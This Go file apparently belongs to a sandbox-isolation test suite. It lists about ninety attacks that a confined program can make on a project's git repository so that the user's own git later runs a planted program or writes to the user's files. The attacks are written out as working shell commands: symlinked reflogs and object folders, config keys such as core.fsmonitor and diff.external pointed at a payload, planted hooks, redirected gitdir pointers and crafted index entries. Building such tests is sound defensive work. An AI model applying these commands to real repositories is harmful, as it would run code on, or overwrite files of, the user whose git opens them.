package attack

// GitAttack is what a program in a box does to the project's repository, so that the
// person's own git, outside, runs something, writes somewhere, hangs, or finds the repository broken.
//
// $PWN is a program in the project that leaves a mark in the home, $VICTIM a file of the home,
// $VICTIMS a folder of it, and $TRAP a repository of the user's that has a hook.
type GitAttack struct {
	Name, What string
	Line       string // in the project's folder
	// Use is what the person then does, where g is git. Without it the attack is none of the suite's: bare it would do nothing.
	Use string
	// Inert says why git itself keeps it from running or writing anything outside of the repository. Of some the
	// repository is broken afterwards.
	Inert string
}

// GitFixture makes the repository of the attacks in the working folder, and what belongs to it beside that. One git
// makes all commits, always the same: a suite has a hundred of these fixtures.
const GitFixture = `set -e
git init -q -b main --template=
mkdir -p .git/info .git/hooks
git fast-import --quiet <<'END'
commit refs/heads/main
committer a <a@example.org> 1700000000 +0000
data 3
one
M 100644 inline a
data 4
one

commit refs/heads/main
committer a <a@example.org> 1700000000 +0000
data 3
two
M 100644 inline a
data 8
one
two

commit refs/heads/main
committer a <a@example.org> 1700000000 +0000
data 3
sub
M 160000 1111111111111111111111111111111111111111 gone

reset refs/tags/then
from refs/heads/main

reset refs/heads/was
from refs/heads/main

commit refs/heads/main
committer a <a@example.org> 1700000000 +0000
data 5
empty
D gone
M 160000 1111111111111111111111111111111111111111 empty

reset refs/remotes/origin/main
from refs/heads/main

END
git reset -q --hard
cp -a .git ../remote.git
cp -a .git ../trap.git
printf '[core]\n\trepositoryformatversion = 0\n\tbare = true\n' >../remote.git/config
printf '[remote "origin"]\n\turl = ../remote.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n' >>.git/config
`

// then is the commit that the tag of that name has in the fixture.
const then = "facc16d508831bcc921ed46ab7e08b6a433c6234"

// GitAttacks returns all of them.
func GitAttacks() []GitAttack {
	return []GitAttack{
		// Files that git writes, replaced by links.
		{"git-link-message", "COMMIT_EDITMSG is a link", `ln -sf $VICTIM .git/COMMIT_EDITMSG`, "g commit -m host --allow-empty", ""},
		{"git-link-stash-log", "the reflog of the stash is a link", `mkdir -p .git/logs/refs && ln -sf $VICTIM .git/logs/refs/stash`, "echo x >>a; g stash", ""},
		{"git-link-head-log", "the reflog of HEAD is a link", `rm -f .git/logs/HEAD; ln -s $VICTIM .git/logs/HEAD`, "g commit -m host --allow-empty", ""},
		{"git-link-branch-log", "the reflog of a branch is a link", `rm -f .git/logs/refs/heads/main; ln -s $VICTIM .git/logs/refs/heads/main`, "g commit -m host --allow-empty", ""},
		{"git-link-fetch-head", "FETCH_HEAD is a link", `ln -sf $VICTIM .git/FETCH_HEAD`, "g fetch", ""},
		{"git-link-orig-head", "ORIG_HEAD is a link", `ln -sf $VICTIM .git/ORIG_HEAD`, "", "written by rename"},
		{"git-link-logs", "the folder of reflogs is a link", `rm -rf .git/logs && ln -s $VICTIMS .git/logs`, "g commit -m host --allow-empty", ""},
		{"git-link-heads", "refs/heads is a link", `cp -a .git/refs/heads/. $VICTIMS/ 2>/dev/null; mv .git/refs/heads .git/was && ln -s $VICTIMS .git/refs/heads; cp .git/was/* $VICTIMS/ 2>/dev/null; true`, "g commit -m host --allow-empty", ""},
		{"git-link-tags", "refs/tags is a link", `rm -rf .git/refs/tags && ln -s $VICTIMS .git/refs/tags`, "g tag x", "nothing tags"},
		{"git-link-objects", "folders of objects are links", `git gc -q; for i in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do for j in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do rm -rf .git/objects/$i$j; ln -s $VICTIMS .git/objects/$i$j; done; done`, "g commit -m host --allow-empty", ""},
		{"git-link-packs", "the folder of packs is a link", `cp .git/objects/pack/* $VICTIMS/ 2>/dev/null; rm -rf .git/objects/pack && ln -s $VICTIMS .git/objects/pack`, "g gc -q", ""},
		{"git-link-index", "the index is a link", `rm -f .git/index; ln -s $VICTIM .git/index`, "g status", "git refuses the index"},
		{"git-link-packed-refs", "packed-refs is a link", `ln -sf $VICTIM .git/packed-refs`, "g status", "git refuses what it reads"},
		{"git-link-info", "the folder info is a link", `rm -rf .git/info && ln -s $VICTIMS .git/info`, "g gc -q", ""},
		{"git-link-rerere", "rr-cache is a link", `git config rerere.enabled true; rm -rf .git/rr-cache; ln -s $VICTIMS .git/rr-cache; git switch -qc x; echo 1 >a; git commit -qam 1; git switch -q -; echo 2 >a; git commit -qam 2`, "g merge x", ""},
		{"git-link-worktrees", "worktrees is a link", `rm -rf .git/worktrees; ln -s $VICTIMS .git/worktrees`, "g worktree prune", ""},
		{"git-link-modules", "modules is a link", `rm -rf .git/modules; ln -s $VICTIMS .git/modules`, "", "nothing is cloned"},
		{"git-link-head", "HEAD is a link", `rm .git/HEAD; ln -s $VICTIM .git/HEAD`, "g status", "no repository then"},
		{"git-link-merge-msg", "MERGE_MSG is a link", `ln -sf $VICTIM .git/MERGE_MSG`, "", "git only reads and removes it"},
		{"git-hard-links", "hard links to what git writes", `ln $VICTIM .git/logs/refs/stash 2>/dev/null; rm -f .git/COMMIT_EDITMSG; ln $VICTIM .git/COMMIT_EDITMSG`, "g commit -m host --allow-empty", ""},

		// Settings that name programs.
		{"git-set-fsmonitor", "core.fsmonitor", `git config core.fsmonitor $PWN`, "g status", ""},
		{"git-set-hooks-path", "core.hooksPath", `mkdir -p h && ln -sf $PWN h/pre-commit && git config core.hooksPath h`, "g commit -m host --allow-empty", ""},
		{"git-set-diff", "diff.external", `git config diff.external $PWN && echo x >>a`, "g diff", ""},
		{"git-set-clean", "a clean filter", `git config filter.x.clean $PWN && echo '* filter=x' >.gitattributes && touch a`, "g status", ""},
		{"git-set-process", "a process filter", `git config filter.x.process $PWN && echo '* filter=x' >.git/info/attributes; touch a`, "g status", ""},
		{"git-set-textconv", "a textconv", `git config diff.x.textconv $PWN && echo '* diff=x' >.gitattributes && echo x >>a`, "g diff", ""},
		{"git-set-gpg", "gpg.program", `git config gpg.program $PWN && git config commit.gpgsign true`, "g commit -m host --allow-empty", ""},
		{"git-set-ssh", "core.sshCommand", `git config core.sshCommand $PWN && git config remote.origin.url ssh://localhost/x`, "g fetch", ""},
		{"git-set-upload-pack", "remote.uploadpack", `git config remote.origin.uploadpack $PWN`, "g fetch", ""},
		{"git-set-receive-pack", "remote.receivepack", `git config remote.origin.receivepack $PWN`, "g push origin HEAD:refs/heads/pushed", ""},
		{"git-set-ext", "an ext remote", `git config protocol.ext.allow always && git config remote.origin.url "ext::$PWN"`, "g fetch", ""},
		{"git-set-instead-of", "url.insteadOf", `git config protocol.ext.allow always && git config url."ext::$PWN ".insteadOf "$(git config remote.origin.url)"`, "g fetch", ""},
		{"git-set-alternate-refs", "core.alternateRefsCommand", `git config core.alternateRefsCommand $PWN; mkdir -p alt/pack; echo "$PWD/alt" >.git/objects/info/alternates`, "", "asked for by receive-pack alone"},
		{"git-set-editor", "core.editor", `git config core.editor $PWN`, "", "GIT_EDITOR wins"},
		{"git-set-include", "an include in the project", `printf '[core]\n\tfsmonitor = %s\n' $PWN >c && git config include.path ../c`, "g status", ""},
		{"git-set-include-if", "a conditional include", `printf '[core]\n\tfsmonitor = %s\n' $PWN >c && git config includeIf.onbranch:main.path ../c`, "g status", ""},
		{"git-set-worktree", "config.worktree", `git config extensions.worktreeConfig true && printf '[core]\n\tfsmonitor = %s\n' $PWN >.git/config.worktree`, "g status", ""},
		{"git-set-work-tree", "core.worktree", `echo theirs >mine && git add mine && git commit -qm mine && git config core.worktree $VICTIMS`, "g checkout -- .", ""},
		{"git-set-attributes", "core.attributesFile", `git config core.attributesFile "$PWD/att" && git config filter.x.clean $PWN && echo '* filter=x' >att && touch a`, "g status", ""},
		{"git-set-config-file", "the configuration is another file", `cp .git/config c && git config -f c core.fsmonitor $PWN && mv -f c .git/config`, "g status", ""},
		{"git-set-submodule", "submodule update", `git config submodule.s.update "!$PWN" && git config submodule.s.url . && git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),s && git config -f .gitmodules submodule.s.path s && git config -f .gitmodules submodule.s.url .`, "", "nothing updates submodules"},
		{"git-set-trailer", "a trailer command", `git config trailer.x.command $PWN; git config commit.template t; echo t >t`, "", "asked for by interpret-trailers"},
		{"git-set-pack-hook", "uploadpack.packObjectsHook", `git config uploadpack.packObjectsHook $PWN`, "", "read from protected settings alone"},
		{"git-set-credential", "credential.helper", `git config credential.helper "!$PWN" && git config remote.origin.url http://127.0.0.1:9/x`, "", "the server does not ask"},

		// Hooks.
		{"git-hook-pre-commit", "pre-commit", `mkdir -p .git/hooks; ln -sf $PWN .git/hooks/pre-commit`, "g commit -m host --allow-empty", ""},
		{"git-hook-post-commit", "post-commit", `mkdir -p .git/hooks; cp $PWN .git/hooks/post-commit`, "g commit -m host --allow-empty", ""},
		{"git-hook-post-checkout", "post-checkout", `mkdir -p .git/hooks; cp $PWN .git/hooks/post-checkout`, "g switch -c by-host", ""},
		{"git-hook-transaction", "reference-transaction", `mkdir -p .git/hooks; cp $PWN .git/hooks/reference-transaction`, "g commit -m host --allow-empty", ""},
		{"git-hook-index", "post-index-change", `mkdir -p .git/hooks; cp $PWN .git/hooks/post-index-change`, "g add a", ""},
		{"git-hook-auto-gc", "pre-auto-gc", `mkdir -p .git/hooks; cp $PWN .git/hooks/pre-auto-gc; git config gc.autoPackLimit 1; for i in 1 2 3; do git commit -q --allow-empty -m $i; git repack -q; done`, "g gc --auto", ""},
		{"git-hook-pre-push", "pre-push", `mkdir -p .git/hooks; cp $PWN .git/hooks/pre-push`, "g push origin HEAD:refs/heads/pushed", ""},
		{"git-hook-folder", "the folder of hooks is another", `rm -rf .git/hooks 2>/dev/null || mv .git/hooks .git/h; mkdir -p hk; cp $PWN hk/pre-commit; ln -s ../hk .git/hooks`, "g commit -m host --allow-empty", ""},

		// Another repository in the place of this one.
		{"git-place-other", "the repository is another", `mv .git was; cp -a was .git; git config core.fsmonitor $PWN`, "g status", ""},
		{"git-place-pointer", "a pointer to another", `cp -a .git other && git -C other config core.fsmonitor $PWN && git -C other config core.bare false && mv .git was && echo "gitdir: $PWD/other" >.git`, "g status", ""},
		{"git-place-users", "a pointer to a repository of the user's", `mv .git was; echo "gitdir: $TRAP" >.git; touch a`, "g commit -m host --allow-empty", ""},
		{"git-place-link", "a link to another", `cp -a .git other && git --git-dir=other config core.fsmonitor $PWN && mv .git was && ln -s other .git`, "g status", ""},
		{"git-place-commondir", "commondir", `mkdir -p com && cp -a .git/. com/ && git -C . config -f com/config core.fsmonitor $PWN && echo ../com >.git/commondir`, "g status", ""},
		{"git-place-bare", "a bare repository around HEAD", `cp .git/HEAD HEAD; cp -a .git/objects .git/refs .; printf '[core]\n\trepositoryformatversion=0\n\tbare=false\n\tworktree=.\n\tfsmonitor=%s\n' $PWN >config; mv .git was`, "g status", ""},
		{"git-gitlink-index", "a gitlink in the index", `git init -q sub && git -C sub commit -q --allow-empty -m x && git add sub 2>/dev/null; git -C sub config core.fsmonitor $PWN`, "g status", ""},
		{"git-gitlink-commit", "a gitlink in a commit", `git init -q sub && git -C sub commit -q --allow-empty -m x && git add sub 2>/dev/null; git commit -qm sub; git -C sub config core.fsmonitor $PWN`, "g status", ""},
		{"git-gitlink-stash", "a gitlink in the stash", `git init -q sub && git -C sub commit -q --allow-empty -m x && git add sub 2>/dev/null; git stash -q; git -C sub config core.fsmonitor $PWN 2>/dev/null; git stash apply -q --index 2>/dev/null; true`, "g stash apply --index; g status", ""},
		{"git-gitlink-old", "a gitlink older than the run", `git init -q sub && git -C sub commit -q --allow-empty -m x && git -C sub config core.fsmonitor $PWN && touch -d 2001-01-01 sub/.git/config sub/.git sub; git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub`, "g status", ""},
		{"git-gitlink-empty", "a repository where a submodule was not initialised", `git init -q empty && git -C empty commit -q --allow-empty -m x; git -C empty config core.fsmonitor $PWN`, "g status", ""},
		{"git-gitlink-gone", "a branch of before the submodule was gone", `git init -q gone && git -C gone commit -q --allow-empty -m x; git -C gone config core.fsmonitor $PWN; git switch -q was`, "g status", ""},

		// States and objects.
		{"git-state-rebase", "a rebase with exec lines", `git rebase -q -i HEAD~1 -x false >/dev/null 2>&1; d=.git/rebase-merge; [ -d $d ] && printf 'exec %s\n' $PWN >$d/git-rebase-todo; true`, "g rebase --continue", ""},
		{"git-state-sequencer", "a sequencer with a strategy", `git revert --no-commit HEAD >/dev/null; mkdir -p .git/sequencer; printf '[options]\n\tstrategy = x\n' >.git/sequencer/opts; git reset -q --hard`, "", "no such strategy is found"},
		{"git-state-head", "HEAD leads out of refs", `echo "ref: refs/heads/../../hooks/pre-commit" >.git/HEAD; mkdir -p .git/refs/heads`, "g status", "git refuses the name"},
		{"git-object-replaced", "a replaced commit", `git replace -f then then~1`, "g status", "changes what is seen, runs nothing"},
		{"git-object-grafts", "grafts", `mkdir -p .git/info; git rev-parse then >.git/info/grafts`, "g status", "changes what is seen, runs nothing"},
		{"git-object-link", "a link that a later file goes through", `ln -s $VICTIMS dirlink && git add dirlink && git commit -qm link`, "", "git does not follow it"},
		{"git-state-locks", "a lock that stays", `touch .git/index.lock .git/HEAD.lock .git/packed-refs.lock .git/refs/heads/main.lock .git/config.lock`, "g status", "writes nothing"},
		{"git-state-fifos", "FIFOs in place of files", `rm -f .git/MERGE_MSG .git/COMMIT_EDITMSG .git/FETCH_HEAD; mkfifo .git/COMMIT_EDITMSG .git/FETCH_HEAD .git/MERGE_MSG`, "g commit -m host --allow-empty", "writes nothing"},
		{"git-object-shallow", "a shallow history", `git rev-parse then >.git/shallow`, "g status", "changes what is seen, runs nothing"},
		{"git-object-twins", "trees with .git in them, and its twins", `b=$(git hash-object -w $PWN); i=0; for n in .git .GIT .gIt git~1 $(printf '.g\342\200\214it'); do t=$(printf '100755 blob %s\tpost-checkout\n' $b | git mktree); t=$(printf '040000 tree %s\thooks\n' $t | git mktree); t=$(printf '040000 tree %s\t%s\n' $t $n | git mktree); i=$((i+1)); git update-ref refs/heads/t$i $(git commit-tree -p HEAD -m x $t); done`, "g checkout t1; g checkout t2", "git checks out no such tree"},
		{"git-object-modules-link", "a link for .gitmodules", `t=$(printf '120000 blob %s\t.gitmodules\n' $(git rev-parse HEAD:a) | git mktree) && git update-ref refs/heads/t $(git commit-tree -m x $t)`, "g checkout t", "git reads no such link"},
		{"git-object-modules-name", "a submodule whose name leads out", `printf '[submodule "../../victims"]\n\tpath = -x\n\turl = -u./pwn\n' >.gitmodules && git add .gitmodules && git commit -qm x`, "g submodule update --init", "git takes no such name"},
		{"git-object-commit", "a commit that is no commit", `c=$(git cat-file commit HEAD | sed 's/^author .*/author x/' | git hash-object -t commit -w --literally --stdin) && git update-ref refs/heads/t $c`, "g checkout t", "git shows it"},
		{"git-object-pack", "a pack with a changed byte", `git repack -qad && for p in .git/objects/pack/*.pack; do chmod u+w $p; printf x | dd of=$p bs=1 seek=40 conv=notrunc 2>/dev/null; done`, "g status", "runs nothing"},
		{"git-object-idx", "the map of another pack", `git repack -qad && echo x >x && git add x && git commit -qm x && p=$(ls .git/objects/pack/*.pack) && q=$(git rev-parse HEAD | git pack-objects -q .git/objects/pack/pack) && cp -f .git/objects/pack/pack-$q.idx ${p%pack}idx`, "g status", "runs nothing"},
		{"git-object-other", "an object under the name of another", `o=$(git rev-parse HEAD:a); mkdir -p .git/objects/$(echo $o | cut -c1-2); f=.git/objects/$(echo $o | cut -c1-2)/$(echo $o | cut -c3-); n=$(git hash-object -w $PWN); rm -f $f; cp .git/objects/$(echo $n | cut -c1-2)/$(echo $n | cut -c3-) $f`, "g status", "runs nothing"},
		{"git-index-path", "an index with .git/hooks in it", `oct() { h=$1; while [ "$h" ]; do r=${h#??}; printf "\\$(printf %03o 0x${h%"$r"})"; h=$r; done; }; { printf 'DIRC\0\0\0\2\0\0\0\1'; head -c 24 /dev/zero; printf '\0\0\201\355'; head -c 12 /dev/zero; oct $(git hash-object -w $PWN); printf '\0\030.git/hooks/post-checkout\0\0'; } >i; { cat i; oct $(sha1sum i | cut -c1-40); } >.git/index; rm i`, "g checkout -- .; g switch -c by-host", "the next commit or stash drops the path"},
		{"git-index-link", "an index that is divided", `git update-index --split-index && for f in .git/sharedindex.*; do ln -sf $VICTIM $f; done`, "g status", "git refuses the index"},
		{"git-ref-missing", "a branch without its commit", `echo 1111111111111111111111111111111111111111 >.git/refs/heads/t`, "g fetch", "runs nothing"},
		{"git-ref-tree", "a branch that is a tree", `git rev-parse HEAD^{tree} >.git/refs/heads/t`, "g checkout t", "runs nothing"},
		{"git-ref-packed", "lines in packed-refs that are no refs", `git pack-refs --all; printf 'x\0y\n' >>.git/packed-refs`, "g status", "runs nothing"},
		{"git-ref-log", "a reflog with commits that are not there", `printf '%040d %040d a <b> 1 +0000\tx\n' 1 2 >>.git/logs/HEAD`, "g status", "runs nothing"},
		{"git-ref-names", "refs with names that are none", `for n in 'a..b' 'a b' 'a\' 'x.lock' '@{' "$(printf 'a\nb')" "$(printf '\033]0;x\a')"; do git rev-parse HEAD >".git/refs/heads/$n"; done; git rev-parse HEAD >.git/refs/heads/HEAD`, "", "git passes them over"},
		{"git-fifo-index", "a FIFO in place of the index", `rm -f .git/index; mkfifo .git/index`, "g status", "writes nothing"},
	}
}
